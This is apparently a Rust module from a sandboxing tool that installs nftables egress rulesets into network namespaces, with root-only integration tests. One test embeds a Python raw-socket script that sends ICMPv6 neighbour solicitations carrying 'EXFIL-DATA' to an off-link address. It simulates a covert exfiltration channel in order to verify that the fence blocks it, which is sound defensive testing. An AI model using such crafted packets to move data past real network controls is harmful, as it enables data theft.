//! Installing a ruleset into a network namespace (given by path: a sandbox's own, or a pod's
//! from CNI), through nftables' JSON interface. In process when the system's `libnftables.so.1`
//! can be loaded (the library the `nft` command itself is a thin wrapper around: no fork and exec,
//! which cost about 6 ms a sandbox), otherwise by running `nft -j -f -` inside that namespace.

use std::ffi::{CStr, CString, c_char, c_int, c_uint, c_void};
use std::io::Write as _;
use std::os::fd::AsRawFd as _;
use std::os::unix::process::CommandExt as _;
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::{Mutex, OnceLock};

use serde_json::{Value, json};

use super::nft::TABLE;

#[derive(Debug, thiserror::Error)]
pub enum FenceError {
    #[error("opening network namespace {path}: {source}")]
    Netns {
        path: String,
        source: std::io::Error,
    },
    #[error("running nft: {0}")]
    Spawn(std::io::Error),
    #[error("nft refused the ruleset: {0}")]
    Nft(String),
}

/// The entry points of libnftables used here (its stable C API, `libnftables(3)`).
struct Lib {
    ctx_new: unsafe extern "C" fn(c_uint) -> *mut c_void,
    ctx_free: unsafe extern "C" fn(*mut c_void),
    output_set_flags: unsafe extern "C" fn(*mut c_void, c_uint),
    buffer_output: unsafe extern "C" fn(*mut c_void) -> c_int,
    buffer_error: unsafe extern "C" fn(*mut c_void) -> c_int,
    get_output_buffer: unsafe extern "C" fn(*mut c_void) -> *const c_char,
    get_error_buffer: unsafe extern "C" fn(*mut c_void) -> *const c_char,
    run_cmd_from_buffer: unsafe extern "C" fn(*mut c_void, *const c_char) -> c_int,
}

/// `NFT_CTX_OUTPUT_JSON`: JSON output, and (before nftables 1.0.7's input flags) JSON input.
const NFT_CTX_OUTPUT_JSON: c_uint = 1 << 4;

/// libnftables, loaded once; `None` when the system has no loadable copy (then `nft` is run).
/// `AGENTCELL_NFT_EXEC=1` forces the `nft` command (to compare both paths).
fn lib() -> Option<&'static Lib> {
    static LIB: OnceLock<Option<Lib>> = OnceLock::new();
    LIB.get_or_init(|| {
        if std::env::var_os("AGENTCELL_NFT_EXEC").is_some_and(|v| v == "1") {
            return None;
        }
        // SAFETY: dlopen/dlsym with NUL-terminated names; each symbol is cast to the signature
        // libnftables(3) documents for it. The handle is never closed.
        unsafe {
            let h = libc::dlopen(c"libnftables.so.1".as_ptr(), libc::RTLD_NOW | libc::RTLD_LOCAL);
            if h.is_null() {
                tracing::debug!("libnftables.so.1 not loadable: installing rulesets with the nft command");
                return None;
            }
            macro_rules! sym {
                ($name:literal, $ty:ty) => {{
                    let p = libc::dlsym(h, $name.as_ptr());
                    if p.is_null() {
                        tracing::debug!(symbol = ?$name, "libnftables lacks a symbol: using the nft command");
                        return None;
                    }
                    std::mem::transmute::<*mut c_void, $ty>(p)
                }};
            }
            Some(Lib {
                ctx_new: sym!(c"nft_ctx_new", unsafe extern "C" fn(c_uint) -> *mut c_void),
                ctx_free: sym!(c"nft_ctx_free", unsafe extern "C" fn(*mut c_void)),
                output_set_flags: sym!(c"nft_ctx_output_set_flags", unsafe extern "C" fn(*mut c_void, c_uint)),
                buffer_output: sym!(c"nft_ctx_buffer_output", unsafe extern "C" fn(*mut c_void) -> c_int),
                buffer_error: sym!(c"nft_ctx_buffer_error", unsafe extern "C" fn(*mut c_void) -> c_int),
                get_output_buffer: sym!(c"nft_ctx_get_output_buffer", unsafe extern "C" fn(*mut c_void) -> *const c_char),
                get_error_buffer: sym!(c"nft_ctx_get_error_buffer", unsafe extern "C" fn(*mut c_void) -> *const c_char),
                run_cmd_from_buffer: sym!(c"nft_run_cmd_from_buffer", unsafe extern "C" fn(*mut c_void, *const c_char) -> c_int),
            })
        }
    })
    .as_ref()
}

/// Loads libnftables ahead of the first ruleset (a thread does it while another makes the
/// sandbox's namespace: about 0.6 ms off the start).
pub fn preload() {
    let _ = lib();
}

/// Runs one JSON command buffer through libnftables on a short-lived thread that entered the
/// namespace at `netns` first (namespaces are per thread; the context's netlink socket is opened
/// in the thread's namespace). Calls are serialized: libnftables keeps some global state.
fn run_in_process(lib: &'static Lib, netns: &Path, input: &str) -> Result<String, FenceError> {
    static SERIAL: Mutex<()> = Mutex::new(());
    let ns = std::fs::File::open(netns).map_err(|source| FenceError::Netns {
        path: netns.display().to_string(),
        source,
    })?;
    let text = CString::new(input).map_err(|e| FenceError::Nft(format!("ruleset text: {e}")))?;
    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    std::thread::scope(|scope| {
        scope
            .spawn(move || {
                // SAFETY: setns acts on this thread only; it ends when this closure returns.
                if unsafe { libc::setns(ns.as_raw_fd(), libc::CLONE_NEWNET) } != 0 {
                    return Err(FenceError::Netns {
                        path: netns.display().to_string(),
                        source: std::io::Error::last_os_error(),
                    });
                }
                // SAFETY: one context, used by this thread only and freed before it ends; the
                // buffers it returns are read before the free.
                unsafe {
                    let ctx = (lib.ctx_new)(0);
                    if ctx.is_null() {
                        return Err(FenceError::Nft("libnftables: no context".into()));
                    }
                    (lib.output_set_flags)(ctx, NFT_CTX_OUTPUT_JSON);
                    (lib.buffer_output)(ctx);
                    (lib.buffer_error)(ctx);
                    let rc = (lib.run_cmd_from_buffer)(ctx, text.as_ptr());
                    let read = |p: *const c_char| {
                        if p.is_null() {
                            String::new()
                        } else {
                            CStr::from_ptr(p).to_string_lossy().into_owned()
                        }
                    };
                    let out = read((lib.get_output_buffer)(ctx));
                    let err = read((lib.get_error_buffer)(ctx));
                    (lib.ctx_free)(ctx);
                    if rc != 0 {
                        return Err(FenceError::Nft(err.trim().to_string()));
                    }
                    Ok(out)
                }
            })
            .join()
            .map_err(|_| FenceError::Nft("the nftables thread panicked".into()))?
    })
}

/// Runs `nft -j -f -` with the JSON commands `input` inside the namespace at `netns` (in process
/// when libnftables loads), returning nft's (JSON) output.
pub fn nft_json_in(netns: &Path, input: &str) -> Result<String, FenceError> {
    match lib() {
        Some(lib) => run_in_process(lib, netns, input),
        None => nft_in(netns, &["-j", "-f", "-"], Some(input)),
    }
}

/// Runs `nft ARGS` inside the network namespace at `netns`, feeding `input` on stdin.
pub fn nft_in(netns: &Path, args: &[&str], input: Option<&str>) -> Result<String, FenceError> {
    let ns = std::fs::File::open(netns).map_err(|source| FenceError::Netns {
        path: netns.display().to_string(),
        source,
    })?;
    let fd = ns.as_raw_fd();
    let mut cmd = Command::new("nft");
    cmd.args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    // SAFETY: setns(2) is async-signal-safe; it only changes the child's network namespace.
    unsafe {
        cmd.pre_exec(move || {
            if libc::setns(fd, libc::CLONE_NEWNET) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let mut child = cmd.spawn().map_err(FenceError::Spawn)?;
    if let Some(text) = input {
        child
            .stdin
            .take()
            .expect("piped")
            .write_all(text.as_bytes())
            .map_err(FenceError::Spawn)?;
    }
    drop(child.stdin.take());
    let out = child.wait_with_output().map_err(FenceError::Spawn)?;
    drop(ns);
    if !out.status.success() {
        return Err(FenceError::Nft(
            String::from_utf8_lossy(&out.stderr).trim().to_string(),
        ));
    }
    Ok(String::from_utf8_lossy(&out.stdout).into_owned())
}

/// Replaces the sandbox's table in `netns` with `ruleset` atomically (one nft transaction).
///
/// A fresh namespace has no table to replace, and deleting one inside a transaction makes the
/// kernel wait for an RCU grace period at commit (about 15 ms here): the delete is only sent when
/// the table is already there (a pod namespace programmed again).
pub fn install(netns: &Path, ruleset: &Value) -> Result<(), FenceError> {
    replace(netns, ruleset, false)
}

/// [`install`] into a namespace this process has just made: it holds no table yet, so none is
/// looked for (one libnftables context and kernel round trip less, about 0.5 ms).
pub fn install_fresh(netns: &Path, ruleset: &Value) -> Result<(), FenceError> {
    replace(netns, ruleset, true)
}

fn replace(netns: &Path, ruleset: &Value, fresh: bool) -> Result<(), FenceError> {
    // Through the nft command, asking first would cost a second process: delete unconditionally.
    let present = !fresh
        && (lib().is_none() || {
            let listed = nft_json_in(netns, r#"{"nftables": [{"list": {"tables": {}}}]}"#)?;
            serde_json::from_str::<Value>(&listed)
                .ok()
                .and_then(|v| v["nftables"].as_array().cloned())
                .unwrap_or_default()
                .iter()
                .any(|o| o["table"]["family"] == "inet" && o["table"]["name"] == TABLE)
        });
    let mut cmds = Vec::new();
    if present {
        tracing::debug!(netns = %netns.display(), "replacing the namespace's existing fence");
        cmds.push(json!({"add": {"table": {"family": "inet", "name": TABLE}}}));
        cmds.push(json!({"delete": {"table": {"family": "inet", "name": TABLE}}}));
    }
    cmds.extend(ruleset["nftables"].as_array().cloned().unwrap_or_default());
    nft_json_in(netns, &json!({ "nftables": cmds }).to_string()).map(|_| ())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::network::nft::{self, Runtime};
    use agentcell_policy::plan::{CompileOptions, Host, compile};
    use agentcell_policy::{ParseOptions, parse_with};

    /// A network namespace made for the test, removed on drop.
    struct Netns(String);
    impl Netns {
        fn new(tag: &str) -> Self {
            let name = format!("acnft-{tag}-{}", std::process::id());
            assert!(
                Command::new("ip")
                    .args(["netns", "add", &name])
                    .status()
                    .unwrap()
                    .success()
            );
            Self(name)
        }
        fn path(&self) -> std::path::PathBuf {
            Path::new("/run/netns").join(&self.0)
        }
    }
    impl Drop for Netns {
        fn drop(&mut self) {
            let _ = Command::new("ip").args(["netns", "del", &self.0]).status();
        }
    }

    #[test]
    fn the_kernel_accepts_the_ruleset_and_it_replaces_itself() {
        // SAFETY: geteuid cannot fail.
        assert_eq!(
            unsafe { libc::geteuid() },
            0,
            "needs root (CI runs as root)"
        );
        let d = parse_with(
            r#"{"version":"1.0.0","network":{"egress":{"default":"deny",
                "allow":[{"to":[{"cidr":"198.18.0.0/15","except":["198.18.0.0/24"]},{"cidr":"fd00::/8"}],"ports":[{"protocol":"tcp","port":80,"endPort":90},{"protocol":"icmp"}]}],
                "deny":[{"to":[{"cidr":"198.19.0.9"}],"ports":[{"protocol":"udp","port":53}]}]}}}"#,
            &ParseOptions::default(),
        )
        .unwrap();
        let plan = compile(&d, &Host::reference(), &CompileOptions::default()).unwrap();
        let rt = Runtime {
            host_addresses: vec!["198.19.255.1".parse().unwrap(), "fd00::1".parse().unwrap()],
            link_broadcasts: vec!["198.19.255.3".parse().unwrap()],
            on_link_v6: vec!["fdac:0:1::/64".parse().unwrap()],
            ..Default::default()
        };
        let ns = Netns::new("accept");
        let rs = nft::ruleset(&plan.network, &rt);
        let expected = rs["nftables"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|c| c["add"].get("rule").is_some())
            .count();
        let installed = || {
            let listed = nft_in(&ns.path(), &["-j", "list", "ruleset"], None).unwrap();
            let v: Value = serde_json::from_str(&listed).unwrap();
            let rules = v["nftables"]
                .as_array()
                .unwrap()
                .iter()
                .filter(|o| o.get("rule").is_some())
                .count();
            (rules, listed)
        };
        install_fresh(&ns.path(), &rs).expect("the kernel accepts the ruleset");
        let (rules, listed) = installed();
        assert_eq!(rules, expected, "after the fresh install: {listed}");
        // Installing again replaces the table rather than duplicating its rules.
        install(&ns.path(), &rs).expect("idempotent");
        let (rules, listed) = installed();
        assert_eq!(rules, expected, "after the replacing install: {listed}");
        assert!(listed.contains("egress-drop"));
        // The host's own namespace is untouched.
        let host = nft_in(Path::new("/proc/self/ns/net"), &["list", "tables"], None).unwrap();
        // (Its shared guard table, `inet agentcell_host`, is another table.)
        assert!(
            !host.lines().any(|l| l.trim() == "table inet agentcell"),
            "{host}"
        );
    }

    fn ip(args: &[&str]) {
        let ok = Command::new("ip").args(args).status().unwrap().success();
        assert!(ok, "ip {args:?}");
    }

    /// Packets counted by the rule commented `tag` in the observer's chain.
    fn counted(ns: &Netns, tag: &str) -> u64 {
        let listed = nft_in(&ns.path(), &["list", "chain", "inet", "obs", "pre"], None).unwrap();
        let line = listed
            .lines()
            .find(|l| l.contains(&format!("comment \"{tag}\"")))
            .unwrap_or_else(|| panic!("{tag} in {listed}"));
        line.split_whitespace()
            .skip_while(|w| *w != "packets")
            .nth(1)
            .and_then(|n| n.parse().ok())
            .unwrap_or_else(|| panic!("a count in {line}"))
    }

    /// Sends crafted neighbour solicitations (with data after the target, as an exfiltrating
    /// workload with CAP_NET_RAW would) from inside `ns` to each destination.
    fn solicit(ns: &str, dests: &[&str]) {
        let script = r#"
import socket, sys, time
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
target = socket.inet_pton(socket.AF_INET6, "fd00:18:99::2")
ns = bytes([135, 0, 0, 0, 0, 0, 0, 0]) + target + b"EXFIL-DATA-EXFIL-DATA"
for _ in range(5):
    for d in sys.argv[1:]:
        try:
            s.sendto(ns, (d, 0))
        except OSError:
            pass
    time.sleep(0.2)
"#;
        let ok = Command::new("ip")
            .args(["netns", "exec", ns, "python3", "-c", script])
            .args(dests)
            .status()
            .unwrap()
            .success();
        assert!(ok, "sending solicitations");
    }

    #[test]
    fn neighbour_solicitations_to_an_off_link_destination_are_dropped() {
        // SAFETY: geteuid cannot fail.
        assert_eq!(
            unsafe { libc::geteuid() },
            0,
            "needs root (CI runs as root)"
        );
        let (a, b) = (Netns::new("nda"), Netns::new("ndb"));
        let (va, vb) = (
            format!("acnda{}", std::process::id() % 100000),
            format!("acndb{}", std::process::id() % 100000),
        );
        ip(&[
            "link", "add", &va, "netns", &a.0, "type", "veth", "peer", "name", &vb, "netns", &b.0,
        ]);
        ip(&[
            "-n",
            &a.0,
            "addr",
            "add",
            "fd00:18:99::1/64",
            "dev",
            &va,
            "nodad",
        ]);
        ip(&[
            "-n",
            &b.0,
            "addr",
            "add",
            "fd00:18:99::2/64",
            "dev",
            &vb,
            "nodad",
        ]);
        for (n, v) in [(&a, &va), (&b, &vb)] {
            ip(&["-n", &n.0, "link", "set", v, "up"]);
            ip(&["-n", &n.0, "link", "set", "lo", "up"]);
        }
        ip(&[
            "-n",
            &a.0,
            "-6",
            "route",
            "add",
            "default",
            "via",
            "fd00:18:99::2",
        ]);
        // Link-local addresses out of duplicate detection (the kernel's own solicitations use
        // them).
        let started = std::time::Instant::now();
        while [&a, &b].iter().any(|n| {
            let out = Command::new("ip")
                .args(["-n", &n.0, "-6", "addr"])
                .output()
                .unwrap();
            String::from_utf8_lossy(&out.stdout).contains("tentative")
        }) {
            assert!(
                started.elapsed().as_secs() < 10,
                "addresses stayed tentative"
            );
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        // The observer counts what arrives, by destination.
        let obs = r#"{"nftables": [
            {"add": {"table": {"family": "inet", "name": "obs"}}},
            {"add": {"chain": {"family": "inet", "table": "obs", "name": "pre", "type": "filter", "hook": "prerouting", "prio": 0, "policy": "accept"}}},
            {"add": {"rule": {"family": "inet", "table": "obs", "chain": "pre", "comment": "offlink", "expr": [
                {"match": {"op": "==", "left": {"payload": {"protocol": "ip6", "field": "daddr"}}, "right": "fd00:18:98::5"}},
                {"match": {"op": "==", "left": {"payload": {"protocol": "icmpv6", "field": "type"}}, "right": "nd-neighbor-solicit"}},
                {"counter": null}]}}},
            {"add": {"rule": {"family": "inet", "table": "obs", "chain": "pre", "comment": "solicited", "expr": [
                {"match": {"op": "==", "left": {"payload": {"protocol": "ip6", "field": "daddr"}}, "right": "ff02::1:ff00:2"}},
                {"match": {"op": "==", "left": {"payload": {"protocol": "icmpv6", "field": "type"}}, "right": "nd-neighbor-solicit"}},
                {"counter": null}]}}}
        ]}"#;
        nft_json_in(&b.path(), obs).unwrap();
        let offlink = "fd00:18:98::5".to_string();
        let solicited = format!("ff02::1:ff00:2%{va}");
        // Unfenced, the crafted solicitation leaves for the off-link address (the attack works,
        // so this test can fail).
        solicit(&a.0, &[&offlink, &solicited]);
        let before = (counted(&b, "offlink"), counted(&b, "solicited"));
        assert!(
            before.0 > 0 && before.1 > 0,
            "unfenced, both arrive: {before:?}"
        );
        // Fenced (egress denied): ND still reaches its link-scoped destination, not the other.
        let d = parse_with(
            r#"{"version":"1.0.0","network":{"egress":{"default":"deny"}}}"#,
            &ParseOptions::default(),
        )
        .unwrap();
        let plan = compile(&d, &Host::reference(), &CompileOptions::default()).unwrap();
        let rt = Runtime {
            on_link_v6: vec!["fd00:18:99::/64".parse().unwrap()],
            ..Default::default()
        };
        install_fresh(&a.path(), &nft::ruleset(&plan.network, &rt)).unwrap();
        solicit(&a.0, &[&offlink, &solicited]);
        let after = (counted(&b, "offlink"), counted(&b, "solicited"));
        assert!(
            after.1 > before.1,
            "link-scoped ND still goes out: {after:?}"
        );
        assert_eq!(
            after.0, before.0,
            "an off-link solicitation left the namespace: {after:?}"
        );
        let listed = nft_in(&a.path(), &["list", "ruleset"], None).unwrap();
        assert!(listed.contains("egress-drop"), "{listed}");
    }
}
